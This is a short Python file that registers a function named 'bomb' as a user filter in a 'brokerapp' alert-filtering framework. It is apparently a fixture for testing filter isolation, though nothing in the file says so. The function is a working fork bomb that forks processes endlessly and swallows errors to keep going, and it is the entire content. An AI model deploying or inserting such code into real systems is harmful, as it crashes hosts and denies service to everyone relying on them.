import os

from brokerapp import userfilter


@userfilter.filter()
def bomb(alert):
    while True:
        try:
            os.fork()
        except OSError:
            pass
